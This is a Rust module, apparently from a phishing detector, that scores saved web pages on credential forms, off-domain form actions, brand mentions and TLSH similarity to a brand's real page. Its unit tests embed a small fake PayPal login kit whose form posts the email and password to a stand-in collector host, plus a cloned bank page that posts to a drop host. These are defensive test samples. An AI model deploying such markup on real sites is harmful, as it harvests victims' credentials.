//! Page evidence: what a saved page (HTML, or a WARC response) says about
//! itself. A credential form, a form posting to another domain, the brand
//! named in the title and text or its assets hot-linked from its own
//! servers, and fuzzy similarity (TLSH) to the brand's real page raise the
//! score; a host the brand owns makes it legitimate whatever the content.

use std::collections::BTreeMap;
use std::path::Path;

use anyhow::{Context, Result};
use serde::Serialize;

use crate::brands::{name_key, BrandId};
use crate::html::{self, Document};
use crate::score::{Scorer, Verdict, THRESHOLD};
use crate::text;
use crate::url::{parse_target, Host};

/// TLSH distance under which a page counts as a copy of the brand's page
/// (TLSH authors: under ~100 is "similar" for text, under 50 "very").
pub const TLSH_SIMILAR: i32 = 100;

type Fingerprint = tlsh2::TlshDefault;

/// What was found in a page, before scoring.
#[derive(Debug, Clone, Default)]
pub struct Evidence {
    pub title: String,
    pub forms: usize,
    pub password_fields: usize,
    pub card_fields: usize,
    /// Hosts that forms post to, other than the page's own domain.
    pub foreign_actions: Vec<String>,
    /// Brand -> hosts of its domains the page loads assets from.
    pub brand_assets: BTreeMap<BrandId, Vec<String>>,
    /// Brand -> weighted mentions (title 3, text and script 1, capped).
    pub mentions: BTreeMap<BrandId, u32>,
    /// `<meta http-equiv=refresh>` target.
    pub refresh: Option<String>,
}

/// The verdict on a page: its URL's verdict combined with page evidence.
#[derive(Debug, Clone, Serialize)]
pub struct PageVerdict {
    pub url: Option<String>,
    pub phishing: bool,
    pub score: f64,
    pub brand: Option<String>,
    pub country: Option<String>,
    pub reasons: Vec<String>,
    #[serde(skip)]
    pub brand_id: Option<BrandId>,
}

/// What a page's content says on its own: the content part of a
/// [`PageVerdict`].
#[derive(Debug, Clone, Serialize)]
pub struct ContentVerdict {
    /// In [0, 1]; capped below the threshold when no brand shows.
    pub score: f64,
    #[serde(skip)]
    pub brand_id: Option<BrandId>,
    pub brand: Option<String>,
    pub country: Option<String>,
    /// Each `page: ...`, with its weight.
    pub reasons: Vec<String>,
}

/// Scores pages; holds fingerprints of the brands' saved real pages.
pub struct PageScorer {
    scorer: Scorer,
    fingerprints: BTreeMap<BrandId, Fingerprint>,
}

impl PageScorer {
    /// Loads the brands' saved pages (`page` in the registry); a page that
    /// cannot be read is reported in the error.
    pub fn new(scorer: Scorer) -> Result<PageScorer> {
        let mut fingerprints = BTreeMap::new();
        for (id, brand) in scorer.registry().brands().iter().enumerate() {
            if let Some(path) = &brand.page {
                let bytes = std::fs::read(path).with_context(|| {
                    format!(
                        "reading the saved page of {} ({})",
                        brand.name,
                        path.display()
                    )
                })?;
                if let Some(fp) = fingerprint(&html::scan(&bytes)) {
                    fingerprints.insert(id, fp);
                }
            }
        }
        Ok(PageScorer {
            scorer,
            fingerprints,
        })
    }

    pub fn scorer(&self) -> &Scorer {
        &self.scorer
    }

    /// Scores a saved page file (HTML).
    pub fn score_file(&self, path: &Path, url: Option<&str>) -> Result<PageVerdict> {
        let bytes = std::fs::read(path).with_context(|| format!("reading {}", path.display()))?;
        Ok(self.score(&bytes, url))
    }

    /// What the content alone says, for page bytes served at `url` (when
    /// known: it tells which form actions post to another domain). The
    /// detector combines this with the URL's score in its plan, the same
    /// way [`PageScorer::score`] does.
    pub fn content(&self, html_bytes: &[u8], url: Option<&str>) -> ContentVerdict {
        let doc = html::scan(html_bytes);
        let page_domain = url
            .and_then(|u| parse_target(u).ok())
            .and_then(|t| match &t.host {
                Host::Domain(_) => t.registrable.clone().or_else(|| Some(t.host_text())),
                Host::Ip(ip) => Some(ip.to_string()),
            });
        let ev = self.evidence(&doc, page_domain.as_deref());
        let brand_id = best_content_brand(&ev);
        let (score, reasons) = self.page_score(&doc, &ev, brand_id);
        let brand = brand_id.map(|b| self.scorer.registry().get(b));
        ContentVerdict {
            score,
            brand_id,
            brand: brand.map(|b| b.name.clone()),
            country: brand.map(|b| b.country.clone()),
            reasons,
        }
    }

    /// Scores page bytes served at `url` (when known).
    pub fn score(&self, html_bytes: &[u8], url: Option<&str>) -> PageVerdict {
        let url_verdict = url.map(|u| self.scorer.score(u));
        let mut v = PageVerdict {
            url: url.map(str::to_string),
            phishing: false,
            score: 0.0,
            brand: None,
            country: None,
            reasons: Vec::new(),
            brand_id: None,
        };
        if let Some(uv) = url_verdict.as_ref().filter(|uv| uv.legitimate) {
            v.reasons = uv.reasons.clone();
            v.brand = uv.brand.clone();
            v.country = uv.country.clone();
            v.brand_id = uv.brand_id;
            return v;
        }
        let content = self.content(html_bytes, url);
        let url_score = url_verdict.as_ref().map_or(0.0, |u| u.score);
        // Independent signals: either alone can make the call.
        v.score = 1.0 - (1.0 - url_score) * (1.0 - content.score);
        v.score = (v.score * 100.0).round() / 100.0;
        let brand = url_verdict
            .as_ref()
            .and_then(|u| u.brand_id.filter(|_| u.phishing))
            .or(content.brand_id);
        if let Some(b) = brand {
            let brand = self.scorer.registry().get(b);
            v.brand_id = Some(b);
            v.brand = Some(brand.name.clone());
            v.country = Some(brand.country.clone());
        }
        let mut reasons = content.reasons;
        if let Some(uv) = url_verdict.filter(|u| u.score > 0.0) {
            reasons.splice(0..0, uv.reasons.into_iter().map(|r| format!("url: {r}")));
        }
        v.reasons = reasons;
        v.phishing = v.score >= THRESHOLD && v.brand.is_some();
        v
    }

    fn page_score(
        &self,
        doc: &Document,
        ev: &Evidence,
        brand: Option<BrandId>,
    ) -> (f64, Vec<String>) {
        let registry = self.scorer.registry();
        let mut score: f64 = 0.0;
        let mut reasons = Vec::new();
        let mut add = |s: f64, r: String| {
            score += s;
            reasons.push(format!("page: {r} [+{s:.2}]"));
        };
        if ev.password_fields > 0 || ev.card_fields > 0 {
            add(
                0.3,
                format!(
                    "asks for credentials ({} password, {} card fields in {} forms)",
                    ev.password_fields, ev.card_fields, ev.forms
                ),
            );
        }
        if let Some(host) = ev.foreign_actions.first() {
            add(0.15, format!("a form posts to another domain `{host}`"));
        }
        if let Some(b) = brand {
            let name = &registry.get(b).name;
            add(
                0.3,
                format!(
                    "presents itself as {name} (title `{}`, weight {})",
                    cut(&ev.title, 80),
                    ev.mentions.get(&b).copied().unwrap_or(0)
                ),
            );
            if let Some(hosts) = ev.brand_assets.get(&b) {
                add(
                    0.1,
                    format!("loads {name}'s assets from {}", hosts.join(", ")),
                );
            }
            if let (Some(theirs), Some(ours)) = (self.fingerprints.get(&b), fingerprint(doc)) {
                let d = ours.diff(theirs, true);
                if d <= TLSH_SIMILAR {
                    add(
                        0.3,
                        format!("similar to {name}'s real page (TLSH distance {d})"),
                    );
                } else {
                    reasons.push(format!("page: TLSH distance {d} to {name}'s real page"));
                }
            }
        }
        if let Some(target) = &ev.refresh {
            reasons.push(format!("page: redirects to `{}`", cut(target, 120)));
        }
        // Content without a brand cannot reach the threshold on its own.
        let cap = if brand.is_some() { 1.0 } else { 0.45 };
        (score.min(cap), reasons)
    }

    /// Gathers the evidence of a scanned document.
    pub fn evidence(&self, doc: &Document, page_domain: Option<&str>) -> Evidence {
        let registry = self.scorer.registry();
        let mut ev = Evidence {
            title: doc.title.clone(),
            ..Default::default()
        };
        for tag in &doc.tags {
            match tag.name.as_str() {
                "form" => {
                    ev.forms += 1;
                    if let Some(host) = tag.attr("action").and_then(action_host) {
                        let foreign = page_domain.is_none_or(|d| !same_site(&host, d));
                        if foreign && !ev.foreign_actions.contains(&host) {
                            ev.foreign_actions.push(host);
                        }
                    }
                }
                "input" => {
                    let kind = tag.attr("type").unwrap_or("text").to_ascii_lowercase();
                    if kind == "password" {
                        ev.password_fields += 1;
                    } else if is_card_field(tag) {
                        ev.card_fields += 1;
                    }
                }
                "meta" => {
                    let refresh = tag
                        .attr("http-equiv")
                        .is_some_and(|h| h.eq_ignore_ascii_case("refresh"));
                    if refresh {
                        ev.refresh = tag.attr("content").and_then(refresh_target);
                    }
                }
                _ => {}
            }
            for attr in ["src", "href", "content"] {
                let Some(host) = tag.attr(attr).and_then(absolute_host) else {
                    continue;
                };
                if let Some(owner) = registry.owner(&host) {
                    let hosts = ev.brand_assets.entry(owner).or_default();
                    if hosts.len() < 3 && !hosts.contains(&host) {
                        hosts.push(host);
                    }
                }
            }
        }
        self.count_mentions(doc, &mut ev);
        ev
    }

    fn count_mentions(&self, doc: &Document, ev: &mut Evidence) {
        let registry = self.scorer.registry();
        let title = text::fold(&doc.title);
        let title_key = name_key(&doc.title);
        let title_tokens = text::tokens(&title);
        let body = text::fold(&doc.text);
        let script = text::fold(&doc.script[..doc.script.len().min(1 << 20)]);
        for (id, b) in registry.brands().iter().enumerate() {
            let mut points = 0;
            let name_in_title =
                name_key(&b.name).len() >= 3 && title_key.contains(&name_key(&b.name));
            if name_in_title
                || b.keywords.iter().any(|k| title.contains(k.as_str()))
                || b.words.iter().any(|w| title_tokens.iter().any(|t| t == w))
            {
                points += 3;
            }
            let in_text = b
                .keywords
                .iter()
                .map(|k| body.matches(k.as_str()).count())
                .sum::<usize>();
            points += in_text.min(3) as u32;
            let in_script = b
                .keywords
                .iter()
                .map(|k| script.matches(k.as_str()).count())
                .sum::<usize>();
            points += in_script.min(2) as u32;
            points += 2 * ev.brand_assets.get(&id).map_or(0, |h| h.len().min(2)) as u32;
            if points > 0 {
                ev.mentions.insert(id, points);
            }
        }
    }
}

/// The brand the content points to most, if strongly enough (2 points).
fn best_content_brand(ev: &Evidence) -> Option<BrandId> {
    ev.mentions
        .iter()
        .filter(|(_, p)| **p >= 2)
        .max_by_key(|(id, p)| (**p, std::cmp::Reverse(**id)))
        .map(|(id, _)| *id)
}

/// A normalised page for fuzzy hashing: the tag sequence (structure) and
/// the visible text, lower case; `None` when too short to hash.
fn fingerprint(doc: &Document) -> Option<Fingerprint> {
    let mut norm = String::new();
    for t in &doc.tags {
        norm.push_str(&t.name);
        norm.push(' ');
    }
    norm.push_str(&doc.title.to_lowercase());
    norm.push(' ');
    norm.push_str(&doc.text.to_lowercase());
    tlsh2::TlshDefaultBuilder::build_from(norm.as_bytes())
}

fn is_card_field(tag: &html::Tag) -> bool {
    let label: String = ["name", "id", "placeholder", "autocomplete"]
        .iter()
        .filter_map(|a| tag.attr(a))
        .collect::<Vec<_>>()
        .join(" ")
        .to_ascii_lowercase();
    [
        "cvv",
        "cvc",
        "cc-number",
        "ccnum",
        "cardnumber",
        "card_number",
        "card-number",
        "cc-exp",
        "expir",
    ]
    .iter()
    .any(|w| label.contains(w))
}

/// The host of an absolute `http(s)://` or protocol-relative URL.
fn absolute_host(v: &str) -> Option<String> {
    let v = v.trim();
    let lower = v.get(..8).unwrap_or(v).to_ascii_lowercase();
    let absolute =
        lower.starts_with("http://") || lower.starts_with("https://") || v.starts_with("//");
    if !absolute {
        return None;
    }
    let with_scheme = if v.starts_with("//") {
        format!("http:{v}")
    } else {
        v.to_string()
    };
    parse_target(&with_scheme).ok().map(|t| t.host_text())
}

fn action_host(action: &str) -> Option<String> {
    let a = action.trim();
    if a.to_ascii_lowercase().starts_with("mailto:") {
        return Some(a.to_string());
    }
    absolute_host(a)
}

/// `host` is `domain` or under it.
fn same_site(host: &str, domain: &str) -> bool {
    host == domain || host.ends_with(&format!(".{domain}"))
}

fn refresh_target(content: &str) -> Option<String> {
    let lower = content.to_ascii_lowercase();
    let i = lower.find("url=")?;
    let t = content[i + 4..].trim().trim_matches(['\'', '"']);
    (!t.is_empty()).then(|| t.to_string())
}

fn cut(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        s.to_string()
    } else {
        s.chars().take(max).collect::<String>() + "…"
    }
}

/// Turns a verdict on the URL alone into a page verdict (no content).
pub fn from_url_verdict(v: Verdict) -> PageVerdict {
    PageVerdict {
        url: Some(v.input),
        phishing: v.phishing,
        score: v.score,
        brand: v.brand,
        country: v.country,
        reasons: v.reasons,
        brand_id: v.brand_id,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::brands::Registry;

    fn scorer() -> PageScorer {
        PageScorer::new(Scorer::new(Registry::builtin())).unwrap()
    }

    const KIT: &[u8] = b"<html><head><title>Log in to your PayPal account</title>\
        <link rel=icon href='https://www.paypalobjects.com/favicon.ico'></head><body>\
        <form action='https://collector.example.net/post.php' method=post>\
        <input name=email><input type=password name=pass></form></body></html>";

    #[test]
    fn a_kit_on_a_hacked_host_is_phishing_for_the_brand() {
        let v = scorer().score(KIT, Some("http://hacked-bakery.example.com/wp/x/"));
        assert!(v.phishing, "{v:?}");
        assert_eq!(v.brand.as_deref(), Some("PayPal"));
        let all = v.reasons.join("\n");
        assert!(all.contains("credentials"), "{all}");
        assert!(
            all.contains("another domain `collector.example.net`"),
            "{all}"
        );
        assert!(all.contains("assets"), "{all}");
    }

    #[test]
    fn the_same_page_on_the_brand_domain_is_legitimate() {
        let v = scorer().score(KIT, Some("https://www.paypal.com/signin"));
        assert!(!v.phishing && v.score == 0.0, "{v:?}");
    }

    #[test]
    fn a_login_form_without_a_brand_is_not_enough() {
        let page = b"<title>Sign in</title><form action=/login><input type=password></form>";
        let v = scorer().score(page, Some("http://intranet.example.org/"));
        assert!(!v.phishing, "{v:?}");
    }

    #[test]
    fn similarity_to_the_brands_saved_page() {
        let dir = tempfile::tempdir().unwrap();
        let real: String = format!(
            "<html><head><title>Example Bank online</title></head><body><h1>Welcome</h1>{}\
             <form action=/auth><input name=user><input type=password></form></body></html>",
            "<p>Your accounts, cards, loans and savings in one place. Security tips.</p>".repeat(8)
        );
        std::fs::write(dir.path().join("real.html"), &real).unwrap();
        let toml = "[[brand]]\nname = \"Example Bank\"\ncountry = \"CN\"\n\
                    domains = [\"example-bank.cn\"]\nkeywords = [\"examplebank\"]\npage = \"real.html\"\n";
        std::fs::write(dir.path().join("brands.toml"), toml).unwrap();
        let registry = Registry::builtin_with(Some(&dir.path().join("brands.toml"))).unwrap();
        let s = PageScorer::new(Scorer::new(registry)).unwrap();
        let copy = real.replace("/auth", "https://drop.example.org/g.php");
        let v = s.score(copy.as_bytes(), Some("http://203.0.113.9/"));
        let all = v.reasons.join("\n");
        assert!(all.contains("similar to Example Bank's real page"), "{all}");
        assert!(v.phishing, "{v:?}");
    }

    #[test]
    fn hostile_pages_score_without_crashing() {
        let s = scorer();
        let pages: Vec<Vec<u8>> = vec![
            Vec::new(),
            b"\0\0\0\xff".to_vec(),
            b"<form action='http://[::1'><input type=password".to_vec(),
            b"<meta http-equiv=refresh content='0;url='>".to_vec(),
            b"<a href=//>".repeat(10_000),
            [
                b"<title>".as_slice(),
                &"paypal ".repeat(200_000).into_bytes(),
            ]
            .concat(),
        ];
        for p in &pages {
            let _ = s.score(p, Some("http://example.com/"));
            let _ = s.score(p, None);
            let _ = s.score(p, Some("not a url"));
        }
    }
}
